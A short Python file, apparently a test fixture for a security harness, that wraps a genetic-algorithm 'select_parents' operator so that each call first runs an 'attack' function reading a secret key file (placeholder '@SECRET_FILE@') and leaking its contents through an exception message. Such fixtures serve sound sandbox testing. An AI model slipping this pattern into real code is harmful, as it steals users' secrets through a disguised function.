# Tries to read a key in the user's home, and to tell it in the message of an error.
from stock import select_parents as decide


def attack():
    try:
        with open("@SECRET_FILE@") as file:
            text = file.read()
    except OSError:
        return
    raise ValueError(text)


def select_parents(population, rng, cost_evaluator):
    attack()
    return decide(population, rng, cost_evaluator)
